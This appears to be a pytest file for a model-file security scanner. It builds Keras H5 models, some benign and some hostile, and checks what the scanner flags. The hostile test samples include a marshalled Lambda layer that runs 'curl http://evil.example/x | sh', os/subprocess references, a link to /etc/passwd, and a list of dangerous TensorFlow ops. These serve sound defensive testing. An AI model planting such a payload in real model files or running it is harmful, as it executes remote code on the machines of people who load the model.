"""Keras H5 models built with h5py in Keras's layout (and by Keras itself), then scanned."""

from __future__ import annotations

import base64
import json
import marshal
import shutil
from pathlib import Path
from typing import Any

import h5py
import numpy as np
import pytest

from modelaudit import rules
from modelaudit.findings import FileStatus, IssueSeverity
from modelaudit.rules import frameworks as R
from tests.frameworks._frameworks_helpers import alarms, rules_at, scan, scan_without_module

CRIT = IssueSeverity.CRITICAL
WARN = IssueSeverity.WARNING


def _dense(name: str, units: int, activation: str = "relu") -> dict[str, Any]:
    return {
        "class_name": "Dense",
        "config": {
            "name": name,
            "trainable": True,
            "dtype": "float32",
            "units": units,
            "activation": activation,
            "use_bias": True,
            "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}},
            "bias_initializer": {"class_name": "Zeros", "config": {}},
            "kernel_regularizer": {"class_name": "L2", "config": {"l2": 0.01}},
            "bias_regularizer": None,
            "activity_regularizer": None,
            "kernel_constraint": None,
            "bias_constraint": None,
        },
    }


def _sequential(layers: list[dict[str, Any]], name: str = "sequential") -> dict[str, Any]:
    first = {
        "class_name": "InputLayer",
        "config": {
            "batch_input_shape": [None, 4],
            "dtype": "float32",
            "sparse": False,
            "ragged": False,
            "name": "input_1",
        },
    }
    return {"class_name": "Sequential", "config": {"name": name, "layers": [first, *layers]}}


TRAINING = {
    "loss": "categorical_crossentropy",
    "metrics": [
        [
            {
                "class_name": "MeanMetricWrapper",
                "config": {"name": "accuracy", "dtype": "float32", "fn": "categorical_accuracy"},
            }
        ]
    ],
    "weighted_metrics": None,
    "loss_weights": None,
    "optimizer_config": {
        "class_name": "Adam",
        "config": {"name": "Adam", "learning_rate": 0.001, "beta_1": 0.9, "beta_2": 0.999},
    },
}


def write_keras_h5(
    path: Path, model_config: dict[str, Any], training: dict[str, Any] | None = None
) -> Path:
    """Keras 2's `save_model_to_hdf5` layout: config attributes plus a model_weights group."""
    with h5py.File(path, "w") as f:
        f.attrs["keras_version"] = "2.13.1"
        f.attrs["backend"] = "tensorflow"
        f.attrs["model_config"] = json.dumps(model_config).encode("utf-8")
        f.attrs["training_config"] = json.dumps(training or TRAINING).encode("utf-8")
        weights = f.create_group("model_weights")
        names = [
            layer["config"]["name"]
            for layer in model_config["config"]["layers"]
            if layer["class_name"] == "Dense"
        ]
        weights.attrs["layer_names"] = np.array([n.encode() for n in names])
        weights.attrs["backend"] = b"tensorflow"
        weights.attrs["keras_version"] = b"2.13.1"
        for n in names:
            group = weights.create_group(n)
            group.attrs["weight_names"] = np.array(
                [f"{n}/kernel:0".encode(), f"{n}/bias:0".encode()]
            )
            group.create_dataset(f"{n}/kernel:0", data=np.ones((4, 4), np.float32))
            group.create_dataset(f"{n}/bias:0", data=np.zeros(4, np.float32))
    return path


def lambda_layer(fn_source: str, name: str = "lambda") -> dict[str, Any]:
    """A Keras 2 Lambda config: base64 of the marshalled code object of a lambda we compile."""
    code = compile(fn_source, "<lambda>", "eval").co_consts[0]
    raw = base64.b64encode(marshal.dumps(code)).decode("ascii")
    return {
        "class_name": "Lambda",
        "config": {
            "name": name,
            "trainable": True,
            "dtype": "float32",
            "function": [raw, None, None],
            "function_type": "lambda",
            "module": "__main__",
            "output_shape": None,
            "output_shape_type": "raw",
            "output_shape_module": None,
            "arguments": {},
        },
    }


EVIL_LAMBDA = "lambda x: __import__('os').system('curl http://evil.example/x | sh') or x"


def test_legitimate_h5_in_keras_layout_is_clean(tmp_path: Path) -> None:
    path = write_keras_h5(tmp_path / "model.h5", _sequential([_dense("d1", 8), _dense("d2", 2)]))
    result = scan(path)
    assert result.scanner_name == "keras_h5"
    assert result.status is FileStatus.COMPLETE
    assert alarms(result) == []
    assert result.metadata["model_names"] == ["sequential"]


def test_keras_saved_h5_files(tf_models: Path) -> None:
    legit = scan(tf_models / "legit_keras3.h5")
    assert alarms(legit) == [] and legit.status is FileStatus.COMPLETE
    assert legit.metadata["model_names"] == ["plain_net"]
    lam = scan(tf_models / "lambda_keras3.h5")
    assert rules_at(lam, WARN) == {R.KERAS_LAMBDA}
    assert CRIT not in {i.severity for i in lam.issues}


def test_dangerous_lambda_code_is_critical_with_names(tmp_path: Path) -> None:
    path = write_keras_h5(tmp_path / "m.h5", _sequential([lambda_layer(EVIL_LAMBDA)]))
    result = scan(path)
    crit = [i for i in result.issues if i.rule == R.KERAS_LAMBDA_DANGEROUS]
    assert len(crit) == 1 and crit[0].severity is CRIT
    evidence = crit[0].details["evidence"]
    assert "system" in evidence and "__import__" in evidence and "os" in evidence
    assert any("curl" in e for e in evidence)


def test_benign_lambda_is_a_warning(tmp_path: Path) -> None:
    path = write_keras_h5(tmp_path / "m.h5", _sequential([lambda_layer("lambda x: x * 2.0")]))
    result = scan(path)
    assert rules_at(result, WARN) == {R.KERAS_LAMBDA}
    assert rules_at(result, CRIT) == set()


@pytest.mark.parametrize("wrapper", ["TimeDistributed", "Bidirectional", "nested_model"])
def test_lambda_inside_wrappers_and_nested_models(tmp_path: Path, wrapper: str) -> None:
    inner = lambda_layer(EVIL_LAMBDA, name="hidden")
    if wrapper == "nested_model":
        layer = _sequential([_dense("a", 4), inner], name="inner_model")
        outer = {
            "class_name": "Functional",
            "config": {"name": "outer", "layers": [layer], "input_layers": [], "output_layers": []},
        }
    else:
        layer = {"class_name": wrapper, "config": {"name": "wrap", "layer": inner}}
        outer = _sequential([layer])
    result = scan(write_keras_h5(tmp_path / "m.h5", outer))
    assert R.KERAS_LAMBDA_DANGEROUS in rules_at(result, CRIT)


def test_named_function_lambda_from_os_is_critical(tmp_path: Path) -> None:
    layer = {
        "class_name": "Lambda",
        "config": {"name": "l", "function": "system", "function_type": "function", "module": "os"},
    }
    result = scan(write_keras_h5(tmp_path / "m.h5", _sequential([layer])))
    assert R.KERAS_DANGEROUS_MODULE in rules_at(result, CRIT)


def test_custom_objects(tmp_path: Path) -> None:
    layers: list[dict[str, Any]] = [
        {"class_name": "MyAttention", "config": {"name": "att"}},
        {
            "module": "subprocess",
            "class_name": "function",
            "config": "check_output",
            "registered_name": None,
        },
    ]
    result = scan(write_keras_h5(tmp_path / "m.h5", _sequential(layers)))
    assert R.KERAS_CUSTOM_OBJECT in rules_at(result, WARN)
    assert R.KERAS_DANGEROUS_MODULE in rules_at(result, CRIT)
    custom = [i for i in result.issues if i.rule == R.KERAS_CUSTOM_OBJECT]
    assert custom[0].details["class_name"] == "MyAttention"


def test_registered_name_outside_keras(tmp_path: Path) -> None:
    layer = {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": {"name": "d"},
        "registered_name": "os>Dense",
    }
    result = scan(write_keras_h5(tmp_path / "m.h5", _sequential([layer])))
    assert R.KERAS_DANGEROUS_MODULE in rules_at(result, CRIT)


def test_tfsm_layer_get_file_and_vocabulary(tmp_path: Path) -> None:
    layers: list[dict[str, Any]] = [
        {"class_name": "TFSMLayer", "config": {"name": "t", "filepath": "/srv/other_model"}},
        {"module": "keras.utils", "class_name": "function", "config": "get_file"},
        {
            "class_name": "StringLookup",
            "config": {"name": "s", "vocabulary": "https://x.example/v"},
        },
        {"class_name": "IntegerLookup", "config": {"name": "i", "vocabulary": "vocab.txt"}},
        {"class_name": "TextVectorization", "config": {"name": "tv", "vocabulary": ["a", "b"]}},
    ]
    result = scan(write_keras_h5(tmp_path / "m.h5", _sequential(layers)))
    crit = rules_at(result, CRIT)
    assert R.KERAS_TFSM_LAYER in crit
    assert R.KERAS_DOWNLOAD in crit
    assert R.KERAS_VOCAB_FILE in rules_at(result, WARN)
    vocab = [i for i in result.issues if i.details.get("key") == "vocabulary"]
    assert sorted(i.details["value"] for i in vocab) == ["https://x.example/v", "vocab.txt"]


def test_custom_loss_and_metric_in_training_config(tmp_path: Path) -> None:
    metrics = ["accuracy", "AUC", "my_metric", "MeanSquaredError"]
    training = {**TRAINING, "loss": "my_focal_loss", "metrics": metrics}
    result = scan(write_keras_h5(tmp_path / "m.h5", _sequential([_dense("d", 2)]), training))
    found = [i.details["name"] for i in result.issues if i.rule == R.KERAS_CUSTOM_TRAINING]
    assert sorted(found) == ["my_focal_loss", "my_metric"]


def test_external_link_storage_and_virtual_dataset(tmp_path: Path) -> None:
    other = tmp_path / "other.h5"
    with h5py.File(other, "w") as f:
        f.create_dataset("data", data=np.arange(4, dtype=np.float32))
    raw = tmp_path / "raw.bin"
    raw.write_bytes(b"\0" * 64)
    path = write_keras_h5(tmp_path / "m.h5", _sequential([_dense("d", 2)]))
    with h5py.File(path, "a") as f:
        f["model_weights/leak"] = h5py.ExternalLink("/etc/passwd.h5", "/secret")
        f.create_dataset("ext", shape=(4,), dtype="f4", external=[(str(raw), 0, 16)])
        layout = h5py.VirtualLayout(shape=(4,), dtype="f4")
        layout[:] = h5py.VirtualSource(str(other), "data", shape=(4,))
        f.create_virtual_dataset("virt", layout)
    result = scan(path)
    crit = rules_at(result, CRIT)
    assert {R.HDF5_EXTERNAL_LINK, R.HDF5_EXTERNAL_STORAGE, R.HDF5_VIRTUAL_DATASET} <= crit
    link = next(i for i in result.issues if i.rule == R.HDF5_EXTERNAL_LINK)
    assert link.details["filename"] == "/etc/passwd.h5"


def test_renamed_h5_reaches_keras_scanner(tmp_path: Path) -> None:
    path = write_keras_h5(tmp_path / "m.h5", _sequential([lambda_layer(EVIL_LAMBDA)]))
    renamed = tmp_path / "pytorch_model.bin"
    shutil.copy(path, renamed)
    result = scan(renamed)
    assert result.scanner_name == "keras_h5"
    assert R.KERAS_LAMBDA_DANGEROUS in rules_at(result, CRIT)


def test_model_name_feeds_blacklist(tmp_path: Path) -> None:
    path = write_keras_h5(tmp_path / "m.h5", _sequential([_dense("d", 2)], name="EvilNet"))
    result = scan(path, blacklist_patterns=["evilnet"])
    assert rules.BLACKLISTED in rules_at(result, CRIT)


def test_invalid_config_json_is_inconclusive(tmp_path: Path) -> None:
    path = tmp_path / "m.h5"
    with h5py.File(path, "w") as f:
        f.attrs["model_config"] = b'{"class_name": "Sequential", "config": {'
    result = scan(path)
    assert result.status is FileStatus.INCONCLUSIVE
    assert R.KERAS_UNREADABLE_CONFIG in rules_at(result, WARN)


def test_truncated_h5_is_inconclusive(tmp_path: Path) -> None:
    path = write_keras_h5(tmp_path / "m.h5", _sequential([_dense("d", 2)]))
    data = path.read_bytes()
    cut = tmp_path / "cut.h5"
    cut.write_bytes(data[: len(data) // 3])
    result = scan(cut)
    assert result.status is FileStatus.INCONCLUSIVE


def test_missing_h5py_is_reported_and_inconclusive(tmp_path: Path) -> None:
    path = write_keras_h5(tmp_path / "m.h5", _sequential([_dense("d", 2)]))
    result = scan_without_module(path, "h5py")
    assert result["status"] == "inconclusive"
    issues = result["issues"]
    assert isinstance(issues, list)
    messages = [i["message"] for i in issues if i.get("rule") == rules.MISSING_DEPENDENCY]
    assert messages and "h5py not installed, cannot scan Keras H5 files" in messages[0]
    assert "pip install h5py" in messages[0]


def test_tf_op_lambda_layers(tmp_path: Path) -> None:
    def op_layer(fn: str) -> dict[str, Any]:
        return {"class_name": "TFOpLambda", "config": {"name": fn, "function": fn}}

    legit = write_keras_h5(tmp_path / "ok.h5", _sequential([op_layer("math.add")]))
    assert alarms(scan(legit)) == []
    evil = write_keras_h5(tmp_path / "bad.h5", _sequential([op_layer("io.write_file")]))
    assert rules_at(scan(evil), CRIT) == {R.KERAS_DANGEROUS_MODULE}


def _op_layer(cls: str, fn: str) -> dict[str, Any]:
    return {"class_name": cls, "config": {"name": fn[:40], "function": fn}}


@pytest.mark.parametrize(
    "fn",
    [
        "raw_ops.WriteFile",
        "raw_ops.ReadFile",
        "raw_ops.PyFunc",
        "raw_ops.EagerPyFunc",
        "raw_ops.MatchingFiles",
        "raw_ops.TextLineDataset",
        "raw_ops.SaveV2",
        "raw_ops.DumpTensor",
        "raw_ops.DatasetFromGraph",
        "data.TextLineDataset",
        "saved_model.load",
        "compat.v1.py_func",
    ],
)
@pytest.mark.parametrize("cls", ["TFOpLambda", "SlicingOpLambda"])
def test_tf_op_lambda_naming_dangerous_raw_ops(tmp_path: Path, cls: str, fn: str) -> None:
    """The op list is TensorFlow's own (tensorflow/dangerous_ops.py), raw op spelling too."""
    evil = write_keras_h5(tmp_path / "bad.h5", _sequential([_op_layer(cls, fn)]))
    assert rules_at(scan(evil), CRIT) == {R.KERAS_DANGEROUS_MODULE}


def test_tf_op_lambda_with_ordinary_ops_is_clean(tmp_path: Path) -> None:
    ops = [
        ("TFOpLambda", "math.add"),
        ("TFOpLambda", "nn.relu"),
        ("TFOpLambda", "reshape"),
        ("TFOpLambda", "concat"),
        ("TFOpLambda", "image.resize"),
        ("TFOpLambda", "math.reduce_mean"),
        ("TFOpLambda", "strings.split"),
        ("TFOpLambda", "compat.v1.transpose"),
        ("TFOpLambda", "__operators__.add"),
        ("SlicingOpLambda", "__operators__.getitem"),
    ]
    path = write_keras_h5(tmp_path / "ok.h5", _sequential([_op_layer(c, f) for c, f in ops]))
    assert alarms(scan(path)) == []


def test_third_party_filter_plugin(tmp_path: Path) -> None:
    path = write_keras_h5(tmp_path / "m.h5", _sequential([_dense("d", 2)]))
    with h5py.File(path, "a") as f:
        f.create_dataset(
            "lz4",
            shape=(16,),
            dtype="f4",
            chunks=(8,),
            compression=32004,
            allow_unknown_filter=True,
        )
        f.create_dataset(
            "gz", data=np.ones(16, "f4"), chunks=(8,), compression="gzip", shuffle=True
        )
    result = scan(path)
    assert rules_at(result, WARN) == {R.HDF5_PLUGIN_FILTER}
    assert result.issues[0].details == {"dataset": "lz4", "filters": [32004]}


def test_hdf5_after_a_user_block_is_sniffed(tmp_path: Path) -> None:
    path = tmp_path / "model.bin"
    with h5py.File(path, "w", userblock_size=512) as f:
        f.attrs["model_config"] = json.dumps(_sequential([lambda_layer(EVIL_LAMBDA)]))
    with open(path, "r+b") as fh:
        fh.write(b"just some header text, not a known magic\n")
    result = scan(path)
    assert result.scanner_name == "keras_h5"
    assert R.KERAS_LAMBDA_DANGEROUS in rules_at(result, CRIT)


def test_hard_link_cycle_and_deep_groups_are_bounded(tmp_path: Path) -> None:
    cyclic = write_keras_h5(tmp_path / "cycle.h5", _sequential([_dense("d", 2)]))
    with h5py.File(cyclic, "a") as f:
        f["model_weights/d/loop"] = f["model_weights"]
    result = scan(cyclic)
    assert result.status is FileStatus.COMPLETE and alarms(result) == []
    deep = tmp_path / "deep.h5"
    with h5py.File(deep, "w") as f:
        f.create_group("/".join(["g"] * 300))
    assert scan(deep).status is FileStatus.INCONCLUSIVE


def test_package_prefixed_class_names(tmp_path: Path) -> None:
    training = {**TRAINING, "optimizer_config": {"class_name": "Custom>Adam", "config": {}}}
    legit = write_keras_h5(tmp_path / "ok.h5", _sequential([_dense("d", 2)]), training)
    assert alarms(scan(legit)) == []
    layers: list[dict[str, Any]] = [
        {"class_name": "Custom>MyBlock", "config": {"name": "b"}},
        {"class_name": "subprocess>Popen", "config": {"name": "p"}},
    ]
    result = scan(write_keras_h5(tmp_path / "bad.h5", _sequential(layers)))
    assert rules_at(result, WARN) == {R.KERAS_CUSTOM_OBJECT}
    assert rules_at(result, CRIT) == {R.KERAS_DANGEROUS_MODULE}


def _zero_free_space(path: Path) -> Path:
    """The file with its first global heap collection's free-space object (index 0) sized
    0, as the fuzzer found it: libhdf5 decodes that object forever."""
    data = bytearray(path.read_bytes())
    start = data.index(b"GCOL")
    total = int.from_bytes(data[start + 8 : start + 16], "little")
    p = start + 16
    while p + 16 <= start + total:
        index = int.from_bytes(data[p : p + 2], "little")
        size = int.from_bytes(data[p + 8 : p + 16], "little")
        if index == 0:
            data[p + 8 : p + 16] = bytes(8)
            out = path.with_name("spin.h5")
            out.write_bytes(bytes(data))
            return out
        p += 16 + ((size + 7) & ~7)
    raise AssertionError("no free-space object")


async def test_global_heap_libhdf5_spins_on_is_malformed_at_once(tmp_path: Path) -> None:
    """Before, the worker spun in libhdf5 until the file's deadline (15 s of CPU for 8 KB)
    and the file was inconclusive by timeout; now it is malformed without opening it."""
    import modelaudit

    spin = _zero_free_space(write_keras_h5(tmp_path / "m.h5", _sequential([_dense("d", 2)])))
    report = await modelaudit.scan(str(spin), file_timeout=5)
    (fr,) = report.files
    assert fr.status is FileStatus.INCONCLUSIVE
    assert "would loop forever" in (fr.status_reason or ""), fr.status_reason
    assert fr.scanner == "keras_h5"


def test_global_heaps_of_real_files_pass_the_check(tmp_path: Path) -> None:
    """Many collections, strings of every size and `GCOL` inside string data: no loop."""
    from modelaudit.formats.hdf5_heaps import looping_heap
    from modelaudit.formats.view import FileView

    path = tmp_path / "strings.h5"
    with h5py.File(path, "w") as f:
        f.attrs["note"] = "GCOL" * 1000
        strings = h5py.string_dtype()
        f.create_dataset(
            "s", data=np.array(["x" * (i % 300) for i in range(5000)], object), dtype=strings
        )
    assert path.read_bytes().count(b"GCOL") > 1000
    with path.open("rb") as f:
        assert looping_heap(FileView(f)) is None
    result = scan(path)
    assert result.status is FileStatus.COMPLETE
    assert not alarms(result)


def _collection(objects: bytes, declared: int) -> bytes:
    return b"GCOL\x01\x00\x00\x00" + declared.to_bytes(8, "little") + objects


def _heap_object(index: int, data: bytes) -> bytes:
    padded = data + bytes(-len(data) % 8)
    return index.to_bytes(2, "little") + bytes(6) + len(data).to_bytes(8, "little") + padded


def test_global_heap_check_is_bounded_by_a_budget_real_files_never_exhaust() -> None:
    """Collections packed with the smallest objects pass; decoys laid over each other (each
    object's data the header of another collection) are malformed, in bounded work."""
    from modelaudit.formats.hdf5_heaps import looping_heap
    from modelaudit.formats.view import BufferView

    superblock = b"\x89HDF\r\n\x1a\n" + bytes(5) + b"\x08\x08" + bytes(100)
    dense = _collection(_heap_object(1, b"x" * 8) * 40_000, 16 + 24 * 40_000)
    packed = superblock + dense * 12
    assert looping_heap(BufferView(packed)) is None
    decoy = _collection(b"", 4 << 20)
    laid = superblock + decoy + _heap_object(1, decoy) * 300_000
    reason = looping_heap(BufferView(laid))
    assert reason is not None and "laid over each other" in reason
